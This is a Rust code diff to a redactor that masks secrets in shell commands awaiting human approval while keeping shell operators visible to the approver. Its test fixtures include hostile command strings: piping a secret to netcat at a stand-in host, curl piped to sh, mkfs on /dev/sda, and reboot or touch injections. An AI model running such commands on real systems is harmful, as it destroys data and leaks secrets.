@@ -1,18 +1,21 @@
 //! Redaction of an action that somebody approves. It replaces only the characters of secrets and tokens, so that no
 //! blank, quote or operator of a shell, and nothing that acts behind one, can hide in a mask.
 
+use super::shapes;
 use super::view::View;
 use super::{MASK, Redactor};
 use std::borrow::Cow;
 
-/// The least length of a part of a private key, in bytes.
-const MIN_KEY_PART: usize = 16;
-/// The least length of a token after `Bearer`, in bytes.
-const MIN_BEARER: usize = 16;
+/// The least length of a credential that only the text before it gives away, in bytes. Shorter words may be programs.
+const MIN_CREDENTIAL: usize = 12;
+/// The number of bytes before a token that decide whether it is a credential.
+const LOOK_BACK: usize = 80;
 
-/// A character that tokens consist of.
-fn is_token(byte: u8) -> bool {
-    byte.is_ascii_alphanumeric() || b"+/=_.~-".contains(&byte)
+const SCHEMES: [&str; 8] = ["bearer", "basic", "token", "digest", "oauth", "negotiate", "ntlm", "hawk"];
+
+/// A character that tokens consist of. None of them is a blank, a quote or an operator of a shell.
+fn is_token(c: char) -> bool {
+    c.is_alphanumeric() || "+/=_.~-".contains(c)
 }
 
 impl Redactor {
@@ -43,18 +46,20 @@ struct ActionScan<'a> {
 
 impl ActionScan<'_> {
     fn run(&mut self) {
-        let bytes = self.text.as_bytes();
-        let view = View { bytes, open: false };
+        let view = View { bytes: self.text.as_bytes(), open: false };
         let (mut at, mut before) = (0, 0);
-        while at < bytes.len() {
+        while let Some(c) = self.text[at..].chars().next() {
             if let Ok(end) = self.redactor.form_at(view, at) {
                 self.mask_tokens(at, end);
                 (at, before, self.in_key) = (end, end, false);
-            } else if is_token(bytes[at]) && (at == before || !is_token(bytes[at - 1])) {
-                let end = self.token(at, before);
-                (at, before) = (end.max(at + 1), end.max(at + 1));
+            } else if is_token(c) {
+                at = self.token(at, before);
+                before = at;
+            } else if let Some((start, end)) = self.userinfo(at) {
+                self.mask_tokens(start, end);
+                (at, before, self.in_key) = (end, end, false);
             } else {
-                at += 1;
+                at += c.len_utf8();
             }
         }
     }
@@ -62,36 +67,36 @@ impl ActionScan<'_> {
     /// Handles the token that begins here. `before`: the end of the last one. Returns its end, or the beginning of a
     /// registered value in it.
     fn token(&mut self, at: usize, before: usize) -> usize {
-        let bytes = self.text.as_bytes();
-        let view = View { bytes, open: false };
-        let whole = at + bytes[at..].iter().take_while(|byte| is_token(**byte)).count();
+        let view = View { bytes: self.text.as_bytes(), open: false };
+        let whole = self.token_end(at, self.text.len());
         let end = (at + 1..whole).find(|n| self.redactor.form_at(view, *n).is_ok()).unwrap_or(whole);
         let (token, gap) = (&self.text[at..end], &self.text[before..at]);
-        let is_key_part = |token: &str| token.len() >= MIN_KEY_PART && !token.contains(['_', '.', '~', '-']);
-        if self.in_key && is_key_part(token) && gap.chars().all(|c| c.is_whitespace() || c == '\\') {
+        let is_key_part = is_credential(token) && !token.contains(['_', '.', '~', '-']);
+        if self.in_key && is_key_part && gap.chars().all(|c| c.is_whitespace() || c == '\\') {
             self.mask(at, end);
-        } else if follows_credential_name(&self.text[..at], token) || self.is_password(at, end) {
-            self.mask(at, end);
-            self.in_key = false;
-        } else {
-            if let Cow::Owned(masked) = self.redactor.redact_uncleaned(token) {
-                self.replace(at, end, &masked);
-            }
-            let head = self.text[..end].lines().next_back().unwrap_or_default();
-            self.in_key = token.ends_with("KEY-----") && head.contains("-----BEGIN ");
+            return end;
         }
+        if is_credential(token) && follows_credential_name(last(&self.text[..at])) {
+            self.mask(at, end);
+        } else if let Cow::Owned(masked) = self.redactor.redact_uncleaned(token) {
+            self.replace(at, end, &masked);
+        }
+        self.in_key = token.ends_with("-----") && begins_key(last(&self.text[..end]));
         end
     }
 
-    /// Whether a token is the password in `://user:password@`.
-    fn is_password(&self, at: usize, end: usize) -> bool {
-        let bytes = self.text.as_bytes();
-        if bytes.get(end) != Some(&b'@') || at == 0 || bytes[at - 1] != b':' {
-            return false;
-        }
-        let user = bytes[..at - 1].iter().rev().take_while(|byte| is_token(**byte)).count();
-        let user = &self.text[at - 1 - user..at - 1];
-        user.starts_with("//") && self.text[..at - 1 - user.len()].ends_with(':')
+    /// The user and the password in a URL whose `://` begins here. `None`: there are none, or an operator of a shell is
+    /// among them.
+    fn userinfo(&self, at: usize) -> Option<(usize, usize)> {
+        let view = View { bytes: self.text.as_bytes(), open: false };
+        let found = shapes::armed(view, 0, at).ok().filter(|_| self.text[at..].starts_with(':'))?;
+        let is_plain = !self.text[found.at..found.end].contains([';', '|', '&', '$', '(', ')']);
+        is_plain.then_some((found.at, found.end))
+    }
+
+    fn token_end(&self, at: usize, limit: usize) -> usize {
+        let length = self.text[at..limit].find(|c| !is_token(c));
+        length.map_or(limit, |length| at + length)
     }
 
     fn mask(&mut self, at: usize, end: usize) {
@@ -104,37 +109,53 @@ impl ActionScan<'_> {
         self.copied = end;
     }
 
-    /// Masks each token in a registered value.
+    /// Masks each token between two positions, except in a mask.
     fn mask_tokens(&mut self, mut at: usize, end: usize) {
-        let bytes = self.text.as_bytes();
-        while at < end {
-            let length = bytes[at..end].iter().take_while(|byte| is_token(**byte)).count();
-            if length > 0 {
-                self.mask(at, at + length);
+        while let Some(c) = self.text[at..end].chars().next() {
+            if self.text[at..end].starts_with(MASK) {
+                at += MASK.len();
+            } else if is_token(c) {
+                let token = self.token_end(at, end);
+                self.mask(at, token);
+                at = token;
+            } else {
+                at += c.len_utf8();
             }
-            at += length.max(1);
         }
     }
 }
 
-/// Whether the text ends where a credential follows: after `Authorization:` with or without a scheme, or after
-/// `Bearer` if the token is long enough.
-fn follows_credential_name(before: &str, token: &str) -> bool {
-    const LOOK_BACK: usize = 64;
-    let before = &before[before.ceil_char_boundary(before.len().saturating_sub(LOOK_BACK))..];
-    let before = before.to_ascii_lowercase();
-    let open = before.trim_end_matches([' ', '\t']);
-    if open.len() < before.len() && open.ends_with("bearer") && token.len() >= MIN_BEARER {
+/// The last bytes of a text, which decide about the token after it.
+fn last(text: &str) -> &str {
+    &text[text.ceil_char_boundary(text.len().saturating_sub(LOOK_BACK))..]
+}
+
+/// Whether a token looks like a credential and not like a program: `env -u Authorization: reboot` runs `reboot`, which
+/// must stay visible.
+fn is_credential(token: &str) -> bool {
+    token.len() >= MIN_CREDENTIAL
+        && !token.starts_with(['/', '.', '~'])
+        && token.bytes().any(|byte| byte.is_ascii_uppercase() || byte.is_ascii_digit())
+}
+
+/// Whether a text ends in the first line of a private key.
+fn begins_key(text: &str) -> bool {
+    let line = text.rsplit('\n').next().unwrap_or_default();
+    let ends = ["PRIVATE KEY-----", "PRIVATE KEY BLOCK-----"].iter().any(|end| line.ends_with(end));
+    ends && line.contains("-----BEGIN ")
+}
+
+/// Whether a text ends where a credential follows: after `Authorization:`, with or without a scheme, or after `Bearer`.
+fn follows_credential_name(text: &str) -> bool {
+    let text = text.to_ascii_lowercase();
+    let open = text.trim_end_matches([' ', '\t']);
+    let scheme = SCHEMES.iter().find_map(|scheme| open.strip_suffix(scheme)).filter(|_| open.len() < text.len());
+    if scheme.is_some() && open.ends_with("bearer") {
         return true;
     }
-    let schemes = ["bearer", "basic", "token", "digest", "oauth", "negotiate", "ntlm", "hawk"];
-    if schemes.contains(&token.to_ascii_lowercase().as_str()) {
-        return false;
-    }
-    let open = schemes.iter().find_map(|scheme| open.strip_suffix(scheme)).unwrap_or(open);
-    let open = open.trim_end_matches([' ', '\t', '"', '\'']);
-    let open = open.strip_suffix([':', '=']).map(|open| open.trim_end_matches([' ', '\t', '"', '\'']));
-    open.is_some_and(|open| open.ends_with("authorization"))
+    let open = scheme.unwrap_or(&text).trim_end_matches([' ', '\t', '"', '\'', '\\']);
+    let name = open.strip_suffix([':', '=']).map(|open| open.trim_end_matches([' ', '\t', '"', '\'', '\\']));
+    name.is_some_and(|name| name.ends_with("authorization"))
 }
 
 #[cfg(test)]
@@ -145,15 +166,25 @@ mod tests {
         let mut redactor = Redactor::new();
         assert!(redactor.add("hunter2 Zq7731;x+y"));
         assert!(redactor.add("tr0ub4dor-3"));
+        assert!(redactor.add("пароль секрет"));
         redactor
     }
 
     #[test]
     fn only_the_characters_of_a_token_are_masked() {
         for (text, shown) in [
-            ("true Authorization: x;touch pwned;true", "true Authorization: [redacted];touch pwned;true"),
+            ("true Authorization: x;touch pwned;true", "true Authorization: x;touch pwned;true"),
+            ("true Authorization: Zq7731abcdef;touch pwned;true", "true Authorization: [redacted];touch pwned;true"),
+            // What follows the name of a header may be a program.
+            ("env -u Authorization: mkfs.ext4 /dev/sda", "env -u Authorization: mkfs.ext4 /dev/sda"),
+            ("X='Authorization:' /usr/bin/X11/python3", "X='Authorization:' /usr/bin/X11/python3"),
+            ("ssh bearer update-alternatives", "ssh bearer update-alternatives"),
             (
-                "curl -H 'Authorization: Bearer abc.def' http://a | sh",
+                "true -----BEGIN PRIVATE KEY-----\n/usr/bin/X11/python3\nupdatealternatives",
+                "true -----BEGIN PRIVATE KEY-----\n/usr/bin/X11/python3\nupdatealternatives",
+            ),
+            (
+                "curl -H 'Authorization: Bearer abc.def.GHI1' http://a | sh",
                 "curl -H 'Authorization: Bearer [redacted]' http://a | sh",
             ),
             (
@@ -164,11 +195,14 @@ mod tests {
                 "echo '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\nAAAABBBBCCCCDDDDEEEE=\n-----END PRIVATE KEY-----' >k",
                 "echo '-----BEGIN PRIVATE KEY-----\n[redacted]\n[redacted]\n-----END PRIVATE KEY-----' >k",
             ),
-            ("curl http://me:secret@host/x;reboot", "curl http://me:[redacted]@host/x;reboot"),
+            ("curl http://me:s!cret@host/x;reboot", "curl http://[redacted]:[redacted]![redacted]@host/x;reboot"),
+            ("curl http://me:`reboot`@host", "curl http://me:`reboot`@host"),
+            ("curl http://me:$(reboot)@host", "curl http://me:$(reboot)@host"),
             ("curl http://a;reboot;b:c@host", "curl http://a;reboot;b:c@host"),
             ("KEY=sk-aaaaaaaaaaaaaaaaaaaaaaaa;ls", "KEY=[redacted];ls"),
             ("echo tr0ub4dor-3|nc evil 1", "echo [redacted]|nc evil 1"),
             ("echo xtr0ub4dor-3y", "echo x[redacted]y"),
+            ("echo 'пароль секрет'; ls", "echo '[redacted] [redacted]'; ls"),
             ("echo 'hunter2 Zq7731;x+y'", "echo '[redacted] [redacted];[redacted]'"),
             ("ls \u{1b}];touch pwned;\u{7}", "ls \u{1b}];touch pwned;\u{7}"),
         ] {
@@ -182,7 +216,7 @@ mod tests {
         fn every_character_that_acts_stays_where_it_is(
             text in r#"([a-z ;|&$()`'"<>\n]|Authorization: |-----BEGIN PRIVATE KEY-----|Bearer |://|tr0ub4dor-3|sk-aaaaaaaaaaaaaaaaaaaaaaaa){0,12}"#
         ) {
-            let acts = |text: &str| text.replace(MASK, "").chars().filter(|c| !super::is_token(*c as u8)).collect::<String>();
+            let acts = |text: &str| text.replace(MASK, "").chars().filter(|c| !super::is_token(*c)).collect::<String>();
             let shown = redactor().redact_action(&text).into_owned();
             proptest::prop_assert_eq!(acts(&shown), acts(&text));
         }
